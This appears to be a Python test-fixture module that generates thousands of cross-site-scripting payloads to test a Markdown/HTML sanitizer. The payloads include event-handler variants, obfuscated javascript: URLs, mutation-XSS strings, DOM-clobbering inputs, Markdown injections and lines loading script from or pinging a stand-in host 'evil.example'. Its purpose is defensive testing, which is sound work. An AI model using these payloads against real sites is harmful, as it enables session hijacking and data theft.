"""Texts that try to run script.

`texts` combines the known payloads with all places in Markdown. All of them run the same JavaScript
if they succeed, so that a browser test can detect it (`window.pwned = 1`, for example).
`published` adds the payloads of another project's corpus.
"""

from itertools import chain, product

from tests.unit.markup import source_archives

_ELEMENTS = [
    *("a", "audio src=x", "b", "body", "button autofocus", "details open", "div", "form"),
    *("frameset", "iframe", "iframe src=x", "img src=x", "input autofocus", "isindex"),
    *("keygen autofocus", "link rel=stylesheet href=x", "marquee", "math", "object data=x"),
    *("p", "pre", "select autofocus", "svg", "svg/animate begin=0", "table background=x", "td"),
    *("textarea autofocus", "video src=x", "video><source", "x tabindex=1", "summary"),
    *("code class=language-x", "input type=image src=x"),
]
_EVENTS = [
    *("onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin"),
    *("onstart", "onanimationstart", "onpointerenter", "onbeforetoggle"),
    *("oncontentvisibilityautostatechange",),
]
_SPELLINGS = [
    "<{element} {event}={code}>",
    '<{element} {event}="{code}">x',
    "<{element} {event}='{code}'//",
    "<{element}/{event}={code}>",
    "<{element}\n{event}\n=\n{code}>",
    "<{element} x='>' {event}={code}>",
    '<{element} title="`" {event}=`{code}`>',
]

_SCHEMES = [
    *("javascript:{code}", "JaVaScRiPt:{code}", " javascript:{code}", "java\tscript:{code}"),
    *("java&#10;script:{code}", "&#106;avascript:{code}", "&#x6A;avascript&colon;{code}"),
    *("javascript&#58;{code}", "\x01javascript:{code}", "&#1;javascript:{code}"),
    *("javascript://%0a{code}", "javascript:%61lert(1)", "jav\\ascript:{code}"),
    *("vbscript:{code}", "data:text/html,<script>{code}</script>"),
    *("data:text/html;base64,PHNjcmlwdD4=", "livescript:x"),
    *("data:image/svg+xml,<svg onload={code}>", "feed:javascript:{code}", "view-source:x"),
    *("blob:x", "javascript&NewLine;:{code}", "&Tab;javascript:{code}", "//javascript:{code}"),
    *("file:///x", "\u2028javascript:{code}", "javascript\u200b:{code}", "\uff4aavascript:{code}"),
    *("mhtml:x!y",),
]
_CARRIERS = [
    '<a href="{url}">x</a>',
    "<a href='{url}'>x</a>",
    "<a href={url}>x</a>",
    '<a xlink:href="{url}">x</a>',
    '<svg><a xlink:href="{url}"><text y=9>x</text></a></svg>',
    '<math><mi href="{url}">x</mi></math>',
    '<img src="{url}">',
    '<img srcset="{url}">',
    '<iframe src="{url}"></iframe>',
    '<embed src="{url}">',
    '<object data="{url}"></object>',
    '<form action="{url}"><input type=submit></form>',
    '<button formaction="{url}">x</button>',
    '<base href="{url}">',
    '<meta http-equiv=refresh content="0;url={url}">',
    '<blockquote cite="{url}">x</blockquote>',
    '<div style="background:url({url})">x</div>',
    '<input type=image src="{url}">',
    '<link rel=import href="{url}">',
    '<video poster="{url}"></video>',
    "[x]({url})",
    "[x](<{url}>)",
    '[x]({url} "title")',
    "[x][r]\n\n[r]: {url}",
    "[r]\n\n[r]: <{url}>",
    "![x]({url})",
    "![x][r]\n\n[r]: {url}",
    "[![x]({url})]({url})",
    "<{url}>",
    "{url}",
]

_RAW = [
    "<script>{code}</script>",
    "<SCRIPT>{code}</SCRIPT>",
    "<script\n>{code}</script\n>",
    "<script/x>{code}</script>",
    "<scr<script>ipt>{code}</scr</script>ipt>",
    "<<script>{code}//<</script>",
    "<script>{code}",
    "</script><script>{code}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>{code}</script>",
    "<svg><script>{code}</script></svg>",
    "<svg><script xlink:href=data:,{code} /></svg>",
    "<math><mtext><script>{code}</script></mtext></math>",
    "<style>@import 'javascript:{code}';</style>",
    "<style><img src=x onerror={code}></style>",
    "<div style=\"width:expression({code})\">x</div>",
    "<div style=\"behavior:url(#x);-moz-binding:url(x)\">x</div>",
    "<iframe srcdoc='<script>parent.{code}</script>'></iframe>",
    "<template><script>{code}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={code}>\"></noscript>",
    "<textarea><p title=\"</textarea><img src=x onerror={code}>\"></textarea>",
    "<title><p title=\"</title><img src=x onerror={code}>\"></title>",
    "<xmp><p title=\"</xmp><img src=x onerror={code}>\"></xmp>",
    "<noembed><p title=\"</noembed><img src=x onerror={code}>\"></noembed>",
    "<noframes><p title=\"</noframes><img src=x onerror={code}>\"></noframes>",
    "<iframe><p title=\"</iframe><img src=x onerror={code}>\"></iframe>",
    "<plaintext><p title=\"</plaintext><img src=x onerror={code}>\">",
    "<svg></p><style><a id=\"</style><img src=x onerror={code}>\">",
    "<math></br><style><a id=\"</style><img src=x onerror={code}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={code}>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror={code}>\">",
    "<svg><foreignObject><p><style><img src=x onerror={code}></style></foreignObject></svg>",
    "<svg><desc><title><![CDATA[</title><img src=x onerror={code}>]]></desc></svg>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select>"
    "<img src=x onerror={code}>\">",
    "<!--><img src=x onerror={code}>-->",
    "<!--[if gte IE 4]><script>{code}</script><![endif]-->",
    "<!-- --!><img src=x onerror={code}> -->",
    "<![CDATA[<img src=x onerror={code}>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror={code}>",
    "<!DOCTYPE html [<!ENTITY x \"<img src=x onerror={code}>\">]>&x;",
    "&lt;script&gt;{code}&lt;/script&gt;",
    "&#60;img src=x onerror={code}&#62;",
    "\\<img src=x onerror={code}\\>",
    "<img src=\"x` `<script>{code}</script>\"` `>",
    "<img \x00src=x \x00onerror={code}>",
    "<img src=x\x0conerror={code}>",
    "<a href=\"x\" id=body name=cookie><img name=getElementById></a>",
    "<form id=document><input name=cookie></form>",
    "<details open ontoggle={code}><summary>x</summary></details>",
    "<object classid=clsid:x><param name=url value=javascript:{code}></object>",
    "<applet code=x></applet><embed allowscriptaccess=always src=x>",
    "<dialog open onclose={code}><form method=dialog><button>x</button></form></dialog>",
    "<a href=x target=_blank ping=//evil.example>x</a>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{code}'/>#x\"></svg>",
    "<svg><set attributeName=href to=javascript:{code}></svg>",
    "<portal src=javascript:{code}></portal><fencedframe></fencedframe>",
    "<b><p><b><p title=x onclick={code}>",
    "<table><tr><td><svg><td><style><img src=x onerror={code}>",
]  # fmt: skip
_MARKDOWN = [
    "```\"><img src=x onerror={code}>\nx\n```",
    "```x\" onmouseover=\"{code}\nx\n```",
    "~~~ <script>{code}</script>\nx\n~~~",
    "```html\n<script>{code}</script>\n```",
    "``` { .x onclick={code} }\nx\n```",
    "    <script>{code}</script>",
    "`<img src=x onerror={code}>`",
    "[x](/ \"\\\" onclick={code} x=\\\"\")",
    "[x](/ '\" onclick={code} x=\"')",
    "![\" onerror={code} x=\"](x)",
    "![x](x \"\\\" onerror={code}\")",
    "[<img src=x onerror={code}>](/)",
    "[x]: \"onclick={code}\n[x]",
    "# <img src=x onerror={code}>",
    "# \"><script>{code}</script>",
    "| <img src=x onerror={code}> | b |\n|---|---|\n| <script>{code}</script> | c |",
    "- [x] <img src=x onerror={code}>",
    "> <script>{code}</script>",
    "1. <svg onload={code}>",
    "~~<img src=x onerror={code}>~~",
    "**<img src=x onerror={code}>**",
    "https://x.example/\"onmouseover={code}",
    "https://x.example/<script>{code}</script>",
    "<https://x.example/\"onmouseover={code}>",
    "a\"onclick={code}@x.example",
    ":smile\" onerror={code}:",
    "#1\" onclick={code}",
    "<script>\n\n{code}\n\n</script>",
    "<div\n\nonclick={code}>x</div>",
    "<img src=x\n\nonerror={code}>",
    "\x02wzxhzdk:0\x03<b>\x02klzzwxh:0000\x03</b>",
    "\x01wzxhzdk:0\x04 <script>{code}</script>",
]  # fmt: skip
_LOGINS = [
    *("@<img/src=x/onerror={code}>", '@a"onclick={code}', "@bob<script>{code}</script>"),
    *("@javascript:{code}", '<a class="user-mention" href="javascript:{code}">@bob</a>'),
    *("@__proto__",),
]
_PLACES = [
    *("{}", "x {} y", "- {}", "> {}", "| a |\n|---|\n| {} |", "<div>{}</div>"),
    *("<div>\n\n{}\n\n</div>",),
]


def payloads(code: str = "alert(1)") -> list[str]:
    """Return every payload once; `code` is JavaScript without spaces and quotes."""
    handlers = (
        spelling.format(element=element, event=event, code=code)
        for spelling, element, event in product(_SPELLINGS, _ELEMENTS, _EVENTS)
    )
    urls = (
        carrier.replace("{url}", scheme.replace("{code}", code))
        for carrier, scheme in product(_CARRIERS, _SCHEMES)
    )
    others = (text.replace("{code}", code) for text in chain(_RAW, _MARKDOWN, _LOGINS))
    return [*handlers, *urls, *others]


def texts(code: str = "alert(1)") -> list[str]:
    """Return the payloads as texts of a post, HTML payloads in every place of Markdown."""
    placed = (
        place.format(text.replace("{code}", code))
        for place, text in product(_PLACES, chain(_RAW, _LOGINS))
    )
    return [*payloads(code), *placed]


def published() -> list[str]:
    """Return the payloads of bleach's own tests (Apache 2.0), which run `alert`."""
    files = (source_archives.read("bleach-6.4.0", f"tests/data/{n}.test") for n in range(1, 21))
    return [file.split("\n--\n")[0] for file in files]
